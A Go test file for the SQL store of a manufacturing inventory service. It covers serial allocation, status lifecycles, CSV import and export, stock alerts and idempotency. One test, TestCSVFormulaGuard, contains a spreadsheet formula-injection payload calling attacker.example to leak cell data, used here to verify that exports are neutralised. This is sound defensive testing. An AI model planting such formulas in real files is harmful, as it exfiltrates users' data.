package sqlstore_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/qrmfg/qrmfg/internal/inventory"
	"github.com/qrmfg/qrmfg/internal/qrmfg"
	"github.com/qrmfg/qrmfg/internal/sqlstore"
	"github.com/qrmfg/qrmfg/internal/sqlstore/sqltest"
)

func newService(db *sqlstore.DB) *inventory.Service {
	return inventory.NewService(db.Inventory(), inventory.DefaultLimits())
}

func mustAllocate(t testing.TB, svc *inventory.Service, lot string, n int) inventory.Batch {
	t.Helper()
	b, err := svc.AllocateBatch(context.Background(), inventory.AllocateRequest{
		ComponentType: "PAD", VendorCode: "V0100", LotNumber: lot, Count: n, ManufacturingDate: "2025-01-15", WarrantyYears: 5,
	})
	if err != nil {
		t.Fatalf("allocate %d in %s: %v", n, lot, err)
	}
	return b
}

func wantCode(t *testing.T, err error, code string) {
	t.Helper()
	if got := qrmfg.ErrorCode(err); got != code {
		t.Fatalf("error = %v (code %q), want code %q", err, got, code)
	}
}

func TestAllocateBatch(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := context.Background()
		svc := newService(db)
		b1 := mustAllocate(t, svc, "L2025-09", 3)
		b2 := mustAllocate(t, svc, "L2025-09", 2)
		if b1.FirstSerial != 1 || b2.FirstSerial != 4 {
			t.Fatalf("serial ranges %d.. and %d.., want 1.. and 4..", b1.FirstSerial, b2.FirstSerial)
		}
		it, err := svc.Get(ctx, "PAD-V0100-L2025-09-00005")
		if err != nil {
			t.Fatal(err)
		}
		if it.Status != inventory.StatusGenerated || it.BatchID != b2.ID || it.WarrantyEnd != "2030-01-15" || it.Serial != 5 {
			t.Fatalf("item = %+v", it.Item)
		}
		if _, err := svc.Get(ctx, "PAD-V0100-L2025-09-00006"); qrmfg.ErrorCode(err) != qrmfg.ENOTFOUND {
			t.Fatalf("serial 6 exists or wrong error: %v", err)
		}
		if p, err := svc.List(ctx, inventory.ItemFilter{BatchID: b2.ID}); err != nil || len(p.Items) != 2 || p.Items[0].Serial != 4 {
			t.Fatalf("batch filter: %+v %v", p.Items, err)
		}
		// Another lot has its own counter.
		if b := mustAllocate(t, svc, "L2025-10", 1); b.FirstSerial != 1 {
			t.Fatalf("new lot starts at %d", b.FirstSerial)
		}
		for _, c := range []struct {
			req   inventory.AllocateRequest
			field string
		}{
			{inventory.AllocateRequest{ComponentType: "PAD", VendorCode: "V1", LotNumber: "L1", Count: 0}, "count"},
			{inventory.AllocateRequest{ComponentType: "PAD", VendorCode: "V1", LotNumber: "L1", Count: -5}, "count"},
			{inventory.AllocateRequest{ComponentType: "PAD", VendorCode: "V1", LotNumber: "L1", Count: 100_001}, "count"},
			{inventory.AllocateRequest{ComponentType: "pad", VendorCode: "V1", LotNumber: "L1", Count: 1}, "component_type"},
			{inventory.AllocateRequest{ComponentType: "PAD", VendorCode: "V1", LotNumber: "L_1", Count: 1}, "lot_number"},
			{inventory.AllocateRequest{ComponentType: "PAD", VendorCode: "V1", LotNumber: "L1", Count: 1, ManufacturingDate: "15/01/2025"}, "manufacturing_date"},
			{inventory.AllocateRequest{ComponentType: "PAD", VendorCode: "V1", LotNumber: "L1", Count: 1, Attributes: json.RawMessage(`[1]`)}, "attributes"},
		} {
			_, err := svc.AllocateBatch(ctx, c.req)
			if e := qrmfg.AsError(err); e == nil || e.Code != qrmfg.EINVALID || e.Field != c.field {
				t.Errorf("%+v: error %v, want invalid %s", c.req, err, c.field)
			}
		}
	})
}

// TestAllocateUpToMaxSerial: a batch that would pass the caller's serial cap
// (the largest serial whose code fits its payload format) is refused naming
// count, and its refusal consumes no serial; a batch ending on the cap is
// allocated.
func TestAllocateUpToMaxSerial(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := context.Background()
		svc := newService(db)
		mustAllocate(t, svc, "L1", 95)
		req := inventory.AllocateRequest{ComponentType: "PAD", VendorCode: "V0100", LotNumber: "L1", Count: 6,
			MaxSerial: 100, MaxSerialReason: "serial 101 does not fit"}
		_, err := svc.AllocateBatch(ctx, req)
		if e := qrmfg.AsError(err); e == nil || e.Code != qrmfg.EINVALID || e.Field != "count" || !strings.Contains(e.Message, "serial 101 does not fit") {
			t.Fatalf("batch past the cap: %v", err)
		}
		req.Count = 5
		if b, err := svc.AllocateBatch(ctx, req); err != nil || b.FirstSerial != 96 || b.LastSerial() != 100 {
			t.Fatalf("batch up to the cap: %+v %v", b, err)
		}
	})
}

// TestConcurrentAllocation: 8 concurrent allocations of 12,500 in one lot
// give 100,000 distinct serials in 8 contiguous ranges.
func TestConcurrentAllocation(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		svc := newService(db)
		const workers, each = 8, 12_500
		var wg sync.WaitGroup
		batches := make([]inventory.Batch, workers)
		errs := make([]error, workers)
		for i := range workers {
			wg.Add(1)
			go func() {
				defer wg.Done()
				batches[i], errs[i] = svc.AllocateBatch(context.Background(), inventory.AllocateRequest{
					ComponentType: "PAD", VendorCode: "V0100", LotNumber: "L2025-09", Count: each})
			}()
		}
		wg.Wait()
		for _, err := range errs {
			if err != nil {
				t.Fatal(err)
			}
		}
		sort.Slice(batches, func(i, j int) bool { return batches[i].FirstSerial < batches[j].FirstSerial })
		for i, b := range batches {
			if want := int64(i*each + 1); b.FirstSerial != want {
				t.Fatalf("range %d starts at %d, want %d (ranges must be contiguous and disjoint)", i, b.FirstSerial, want)
			}
		}
		var n, distinct, lo, hi int64
		err := db.SQL().QueryRow(`SELECT count(*), count(DISTINCT serial), min(serial), max(serial) FROM items`).Scan(&n, &distinct, &lo, &hi)
		if err != nil {
			t.Fatal(err)
		}
		if n != workers*each || distinct != n || lo != 1 || hi != n {
			t.Fatalf("items %d, distinct serials %d, range %d..%d; want 100000 distinct in 1..100000", n, distinct, lo, hi)
		}
		t.Logf("%s: %d items in %d contiguous ranges, 0 repeats", db.Dialect(), n, workers)
	})
}

func TestLifecycle(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := qrmfg.WithActor(context.Background(), qrmfg.Actor{Kind: "user", ID: "alice"})
		svc := newService(db)
		mustAllocate(t, svc, "L1", 2)
		uid := "PAD-V0100-L1-00001"
		for _, to := range []inventory.Status{"engraved", "available", "reserved", "shipped"} {
			if _, err := svc.Transition(ctx, inventory.TransitionRequest{UID: uid, To: to, Reason: "test"}); err != nil {
				t.Fatalf("to %s: %v", to, err)
			}
		}
		_, err := svc.Transition(ctx, inventory.TransitionRequest{UID: uid, To: "engraved"})
		wantCode(t, err, qrmfg.ECONFLICT)
		if e := qrmfg.AsError(err); !strings.Contains(e.Message, "allowed next: returned, installed") {
			t.Fatalf("forbidden transition message %q does not list the allowed states", e.Message)
		}
		_, err = svc.Transition(ctx, inventory.TransitionRequest{UID: uid, To: "lost"})
		wantCode(t, err, qrmfg.EINVALID)
		_, err = svc.Transition(ctx, inventory.TransitionRequest{UID: "PAD-V0100-L1-00009", To: "engraved"})
		wantCode(t, err, qrmfg.ENOTFOUND)
		_, err = svc.Transition(ctx, inventory.TransitionRequest{UID: "PAD-V0100-L1-00002", To: "engraved", Version: 7})
		wantCode(t, err, qrmfg.ECONFLICT)
		d, err := svc.Get(ctx, uid)
		if err != nil {
			t.Fatal(err)
		}
		if len(d.History) != 4 || d.History[3].From != "reserved" || d.History[3].To != "shipped" || d.History[3].Actor != "alice" || d.Version != 5 {
			t.Fatalf("history %+v version %d", d.History, d.Version)
		}
		var events int
		if err := db.SQL().QueryRow(`SELECT count(*) FROM outbox WHERE type = 'inventory.item.status_changed'`).Scan(&events); err != nil || events != 4 {
			t.Fatalf("status events in outbox = %d (%v), want 4", events, err)
		}
	})
}

func TestBulkTransitionIsAllOrNothing(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := context.Background()
		svc := newService(db)
		mustAllocate(t, svc, "L1", 5)
		if _, err := svc.Transition(ctx, inventory.TransitionRequest{UID: "PAD-V0100-L1-00003", To: "void"}); err != nil {
			t.Fatal(err)
		}
		_, err := svc.BulkTransition(ctx, inventory.BulkTransitionRequest{ComponentType: "PAD", VendorCode: "V0100", LotNumber: "L1", To: "engraved"})
		wantCode(t, err, qrmfg.ECONFLICT)
		fails := qrmfg.AsError(err).Detail["failures"].([]inventory.BulkFailure)
		if len(fails) != 1 || fails[0].UID != "PAD-V0100-L1-00003" {
			t.Fatalf("failures %+v", fails)
		}
		page, _ := svc.List(ctx, inventory.ItemFilter{Statuses: []inventory.Status{"engraved"}})
		if len(page.Items) != 0 {
			t.Fatalf("%d items moved although the bulk failed", len(page.Items))
		}
		res, err := svc.BulkTransition(ctx, inventory.BulkTransitionRequest{UIDs: []string{"PAD-V0100-L1-00001", "PAD-V0100-L1-00002"}, To: "engraved"})
		if err != nil || res.Changed != 2 {
			t.Fatalf("bulk by uids: %+v %v", res, err)
		}
	})
}

func TestListFiltersAndCursor(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := context.Background()
		svc := newService(db)
		mustAllocate(t, svc, "L1", 120)
		mustAllocate(t, svc, "L2", 30)
		for i := 1; i <= 10; i++ {
			uid := fmt.Sprintf("PAD-V0100-L1-%05d", i)
			for _, to := range []inventory.Status{"engraved", "available"} {
				if _, err := svc.Transition(ctx, inventory.TransitionRequest{UID: uid, To: to}); err != nil {
					t.Fatal(err)
				}
			}
		}
		p, err := svc.List(ctx, inventory.ItemFilter{Statuses: []inventory.Status{"available"}, Limit: 50, WithTotal: true})
		if err != nil || len(p.Items) != 10 || *p.Total != 10 || p.NextCursor != "" {
			t.Fatalf("available: %d items, total %v, cursor %q, err %v", len(p.Items), p.Total, p.NextCursor, err)
		}
		for _, sortBy := range []inventory.SortField{"uid", "serial", "created_at"} {
			for _, desc := range []bool{false, true} {
				seen := map[string]bool{}
				f := inventory.ItemFilter{LotNumber: "L1", Sort: sortBy, Desc: desc, Limit: 7}
				var prev *inventory.Item
				for pages := 0; ; pages++ {
					p, err := svc.List(ctx, f)
					if err != nil {
						t.Fatal(err)
					}
					for i := range p.Items {
						it := p.Items[i]
						if seen[it.UID] {
							t.Fatalf("sort %s desc %v: %s twice", sortBy, desc, it.UID)
						}
						seen[it.UID] = true
						if prev != nil && sortBy == "serial" && (it.Serial > prev.Serial) == desc {
							t.Fatalf("sort serial desc=%v out of order: %d after %d", desc, it.Serial, prev.Serial)
						}
						prev = &it
					}
					if p.NextCursor == "" {
						break
					}
					f.Cursor = p.NextCursor
				}
				if len(seen) != 120 {
					t.Fatalf("sort %s desc %v: walked %d items, want 120", sortBy, desc, len(seen))
				}
			}
		}
		p, _ = svc.List(ctx, inventory.ItemFilter{UIDPrefix: "PAD-V0100-L2-", Limit: 1000})
		if len(p.Items) != 30 {
			t.Fatalf("uid prefix: %d items", len(p.Items))
		}
		_, err = svc.List(ctx, inventory.ItemFilter{Limit: 1001})
		wantCode(t, err, qrmfg.EINVALID)
		_, err = svc.List(ctx, inventory.ItemFilter{Cursor: "garbage"})
		wantCode(t, err, qrmfg.EINVALID)
	})
}

func TestGenealogy(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := context.Background()
		svc := newService(db)
		mustAllocate(t, svc, "L1", 4)
		uids := []string{"PAD-V0100-L1-00001", "PAD-V0100-L1-00002", "PAD-V0100-L1-00003", "PAD-V0100-L1-00004"}
		for _, u := range uids {
			for _, to := range []inventory.Status{"engraved", "available"} {
				if _, err := svc.Transition(ctx, inventory.TransitionRequest{UID: u, To: to}); err != nil {
					t.Fatal(err)
				}
			}
		}
		// 4 ⊃ 3 ⊃ {1, 2}
		for _, p := range [][2]string{{uids[0], uids[2]}, {uids[1], uids[2]}, {uids[2], uids[3]}} {
			if _, err := svc.Install(ctx, p[0], p[1], "assembly"); err != nil {
				t.Fatalf("install %s into %s: %v", p[0], p[1], err)
			}
		}
		_, err := svc.Install(ctx, uids[3], uids[0], "")
		wantCode(t, err, qrmfg.ECONFLICT)
		tree, err := svc.Upstream(ctx, uids[3])
		if err != nil || len(tree.Children) != 1 || len(tree.Children[0].Children) != 2 {
			t.Fatalf("upstream %+v %v", tree, err)
		}
		down, err := svc.Downstream(ctx, uids[0])
		if err != nil || len(down) != 2 || down[0].UID != uids[2] || down[1].UID != uids[3] {
			t.Fatalf("downstream %v %v", down, err)
		}
		it, err := svc.Remove(ctx, uids[0], "", "rework")
		if err != nil || it.ParentUID != "" || it.Status != "available" {
			t.Fatalf("remove: %+v %v", it, err)
		}
	})
}

func TestStockAlerts(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := context.Background()
		svc := newService(db)
		mustAllocate(t, svc, "L1", 5)
		for i := 1; i <= 5; i++ {
			for _, to := range []inventory.Status{"engraved", "available"} {
				if _, err := svc.Transition(ctx, inventory.TransitionRequest{UID: fmt.Sprintf("PAD-V0100-L1-%05d", i), To: to}); err != nil {
					t.Fatal(err)
				}
			}
		}
		if _, err := svc.SetThreshold(ctx, inventory.Threshold{ComponentType: "PAD", MinAvailable: 4}); err != nil {
			t.Fatal(err)
		}
		countLow := func() int {
			var n int
			_ = db.SQL().QueryRow(`SELECT count(*) FROM outbox WHERE type = 'inventory.stock.low'`).Scan(&n)
			return n
		}
		ship := func(i int) {
			if _, err := svc.Transition(ctx, inventory.TransitionRequest{UID: fmt.Sprintf("PAD-V0100-L1-%05d", i), To: "shipped"}); err != nil {
				t.Fatal(err)
			}
		}
		ship(1) // 4 left: not below
		if countLow() != 0 {
			t.Fatal("alert raised at the threshold")
		}
		ship(2) // 3 left: raise once
		ship(3) // 2 left: still once
		alerts, _ := svc.Alerts(ctx, "open")
		if countLow() != 1 || len(alerts) != 1 || alerts[0].Available != 2 {
			t.Fatalf("low events %d, open alerts %+v", countLow(), alerts)
		}
		if _, err := svc.AcknowledgeAlert(ctx, alerts[0].ID); err != nil {
			t.Fatal(err)
		}
		// Recover: returns bring stock back to 4, which re-arms the alert.
		for i := 1; i <= 2; i++ {
			uid := fmt.Sprintf("PAD-V0100-L1-%05d", i)
			for _, to := range []inventory.Status{"returned", "available"} {
				if _, err := svc.Transition(ctx, inventory.TransitionRequest{UID: uid, To: to}); err != nil {
					t.Fatal(err)
				}
			}
		}
		if a, _ := svc.Alerts(ctx, "resolved"); len(a) != 1 {
			t.Fatalf("resolved alerts %+v", a)
		}
		ship(1)
		if countLow() != 2 {
			t.Fatalf("alert did not re-arm: %d low events", countLow())
		}
		an, err := svc.Analytics(ctx, time.Time{}, time.Time{})
		if err != nil || len(an.Stock) != 1 || !an.Stock[0].Low || len(an.PerDay) != 1 || an.PerDay[0].Generated != 5 || an.PerDay[0].Engraved != 5 || an.PerDay[0].Shipped != 4 {
			t.Fatalf("analytics %+v %v", an, err)
		}
	})
}

func TestCSVImportExport(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := context.Background()
		svc := newService(db)
		bad := "uid,status,warranty_years,attributes\n" +
			"PAD-V0100-L9-00001,available,2,\n" +
			"PAD-V0100-L9-0002,available,2,\n" +
			"PAD-V0100-L9-00003,lost,2,\n" +
			"PAD-V0100-L9-00004,available,-1,\n" +
			"PAD-V0100-L9-00005,available,1,[1]\n" +
			"PAD-V0100-L9-00001,available,1,\n"
		rep, err := svc.ImportCSV(ctx, strings.NewReader(bad), false)
		if err != nil {
			t.Fatal(err)
		}
		if rep.Imported != 0 || len(rep.Errors) != 5 {
			t.Fatalf("report %+v", rep)
		}
		wantLines := []int{3, 4, 5, 6, 7}
		for i, e := range rep.Errors {
			if e.Line != wantLines[i] {
				t.Errorf("error %d on line %d, want %d: %+v", i, e.Line, wantLines[i], e)
			}
		}
		if p, _ := svc.List(ctx, inventory.ItemFilter{}); len(p.Items) != 0 {
			t.Fatal("a failed import wrote items")
		}
		good := "uid,status,location,attributes\nPAD-V0100-L9-00007,available,A1,\"{\"\"color\"\":\"\"red\"\"}\"\nPAD-V0100-L9-00002,engraved,,\n"
		rep, err = svc.ImportCSV(ctx, strings.NewReader(good), true)
		if err != nil || rep.Imported != 0 || rep.Valid != 2 {
			t.Fatalf("dry run %+v %v", rep, err)
		}
		rep, err = svc.ImportCSV(ctx, strings.NewReader(good), false)
		if err != nil || rep.Imported != 2 {
			t.Fatalf("import %+v %v", rep, err)
		}
		// Imported serials are never allocated again.
		if b := mustAllocate(t, svc, "L9", 1); b.FirstSerial != 8 {
			t.Fatalf("allocation after import starts at %d, want 8", b.FirstSerial)
		}
		var buf bytes.Buffer
		if err := svc.ExportCSV(ctx, inventory.ItemFilter{LotNumber: "L9"}, &buf); err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
		if len(lines) != 4 || !strings.HasPrefix(lines[0], "uid,component_type") || !strings.Contains(buf.String(), `"{""color"":""red""}"`) {
			t.Fatalf("export:\n%s", buf.String())
		}
	})
}

// TestCSVFormulaGuard checks that an export does not hand a spreadsheet a
// formula (a location typed as =HYPERLINK(...)), and that importing the
// exported file gives the same values back.
func TestCSVFormulaGuard(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := context.Background()
		svc := newService(db)
		formula := `=HYPERLINK("http://attacker.example/?"&A1,"click")`
		in := "uid,status,location\n" + `PAD-V0100-L8-00001,available,"` + strings.ReplaceAll(formula, `"`, `""`) + "\"\n" +
			"PAD-V0100-L8-00002,available,-40 shelf\n"
		if rep, err := svc.ImportCSV(ctx, strings.NewReader(in), false); err != nil || rep.Imported != 2 {
			t.Fatalf("import %+v %v", rep, err)
		}
		var buf bytes.Buffer
		if err := svc.ExportCSV(ctx, inventory.ItemFilter{LotNumber: "L8"}, &buf); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Fatalf("exported cell %q opens as a formula", cell)
				}
			}
		}
		// The same rows under other uids import to the same locations.
		var again bytes.Buffer
		w := csv.NewWriter(&again)
		for i, rec := range recs {
			if i > 0 {
				rec[0] = strings.Replace(rec[0], "-L8-", "-L7-", 1)
				rec[3] = "L7"
			}
			_ = w.Write(rec)
		}
		w.Flush()
		if rep, err := svc.ImportCSV(ctx, &again, false); err != nil || rep.Imported != 2 {
			t.Fatalf("re-import %+v %v", rep, err)
		}
		for uid, want := range map[string]string{"PAD-V0100-L7-00001": formula, "PAD-V0100-L7-00002": "-40 shelf"} {
			it, err := svc.Get(ctx, uid)
			if err != nil || it.Location != want {
				t.Fatalf("%s: location %q, want %q (%v)", uid, it.Location, want, err)
			}
		}
	})
}

func TestIdempotencyClaims(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := context.Background()
		idem := db.Idempotency()
		svc := newService(db)
		c, rec, err := idem.Claim(ctx, "batches", "k1", "h1", time.Minute)
		if err != nil || rec != nil || c == nil {
			t.Fatalf("first claim %v %v %v", c, rec, err)
		}
		_, _, err = idem.Claim(ctx, "batches", "k1", "h1", time.Minute)
		wantCode(t, err, qrmfg.ECONFLICT)
		b, err := svc.AllocateBatch(ctx, inventory.AllocateRequest{ComponentType: "PAD", VendorCode: "V1", LotNumber: "L1", Count: 2, Claim: c})
		if err != nil {
			t.Fatal(err)
		}
		_, rec, err = idem.Claim(ctx, "batches", "k1", "h1", time.Minute)
		if err != nil || rec == nil || rec.Status != 201 || !strings.Contains(string(rec.Response), b.ID) {
			t.Fatalf("replay %+v %v", rec, err)
		}
		_, _, err = idem.Claim(ctx, "batches", "k1", "h2", time.Minute)
		wantCode(t, err, qrmfg.EINVALID)
		// A stale running claim is taken over, and the old holder can no longer complete.
		old, _, _ := idem.Claim(ctx, "batches", "k2", "h", time.Minute)
		time.Sleep(5 * time.Millisecond)
		if _, _, err := idem.Claim(ctx, "batches", "k2", "h", time.Millisecond); err != nil {
			t.Fatal(err)
		}
		_, err = svc.AllocateBatch(ctx, inventory.AllocateRequest{ComponentType: "PAD", VendorCode: "V1", LotNumber: "L1", Count: 2, Claim: old})
		wantCode(t, err, qrmfg.ECONFLICT)
		if p, _ := svc.List(ctx, inventory.ItemFilter{}); len(p.Items) != 2 {
			t.Fatalf("the lost claim's allocation was committed: %d items", len(p.Items))
		}
	})
}

func TestMigrationStatus(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := context.Background()
		if err := db.CheckSchema(ctx); err != nil {
			t.Fatal(err)
		}
		if _, err := db.SQL().Exec(`DELETE FROM schema_migrations`); err != nil {
			t.Fatal(err)
		}
		err := db.CheckSchema(ctx)
		wantCode(t, err, qrmfg.EUNAVAILABLE)
		if !strings.Contains(qrmfg.ErrorMessage(err), "qrmfg migrate up") {
			t.Fatalf("message %q does not say what to do", qrmfg.ErrorMessage(err))
		}
	})
}

// TestItemsBatchLookup looks up more uids than one IN list takes, with
// unknown and malformed ones among them: every existing item comes back
// once, the others are left out.
func TestItemsBatchLookup(t *testing.T) {
	t.Parallel()
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		ctx := context.Background()
		svc := newService(db)
		mustAllocate(t, svc, "L6", 1203)
		var uids []string
		for i := 1; i <= 1203; i++ {
			uids = append(uids, fmt.Sprintf("PAD-V0100-L6-%05d", i))
		}
		uids = append(uids, "PAD-V0100-L6-09999", "PAD-V0100-L5-00001", "not a uid", "PAD-V0100-L6-00007")
		got, err := svc.Items(ctx, uids)
		if err != nil {
			t.Fatal(err)
		}
		if len(got) != 1203 {
			t.Fatalf("%d items, want 1203", len(got))
		}
		if it := got["PAD-V0100-L6-01203"]; it.Serial != 1203 || it.LotNumber != "L6" {
			t.Fatalf("last item %+v", it)
		}
		if _, ok := got["PAD-V0100-L6-09999"]; ok {
			t.Fatal("an unknown uid came back")
		}
	})
}
